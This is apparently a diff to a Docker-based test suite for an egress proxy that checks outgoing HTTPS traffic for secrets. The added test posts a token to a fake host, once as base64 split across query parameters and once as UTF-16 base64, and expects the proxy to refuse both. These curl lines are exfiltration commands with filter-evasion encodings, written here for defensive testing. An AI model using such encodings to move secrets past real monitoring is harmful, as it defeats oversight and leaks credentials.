@@ -93,7 +93,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route is refused and logged, events and downloads still stream",
+      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16) is refused and logged, events and downloads still stream",
       async () => {
         const encoded = btoa(`ci token ${token}`);
         const r = await sh(
@@ -109,6 +109,25 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         );
         assert.equal(blocked.length, 1);
         assert.ok(!JSON.stringify(blocked).includes(token), "the log does not hold the secret");
+        // The token's base64 in pieces, one a query parameter, and its UTF-16 in base64
+        // (PowerShell's -EncodedCommand).
+        const pieces = btoa(token).match(/.{1,16}/g)!.map((p, i) => `--data-urlencode 'p${i}=${p}'`)
+          .join(" ");
+        const split = await sh(
+          `curl -sS -o /tmp/refused -w '%{http_code}' -G ${pieces} https://plain.fake.test/v1/pieces; echo; cat /tmp/refused; echo; ` +
+            `printf '%s' '${token}' | iconv -f UTF-8 -t UTF-16LE | base64 -w0 | ` +
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/ps; echo; cat /tmp/refused",
+        );
+        assert.match(
+          split.stdout,
+          /^403\n.*in the request's fields, joined, base64-encoded/,
+          split.stderr,
+        );
+        assert.match(split.stdout, /\n403\n.*in the body, base64-encoded/);
+        assert.ok(
+          !(await reached("/v1/pieces")) && !(await reached("/v1/ps")),
+          "nothing reached the host",
+        );
 
         const drip = await sh(
           'curl -sSN https://plain.fake.test/drip | while read -r line; do if [ -n "$line" ]; then echo "$(date +%s%N) $line"; fi; done',
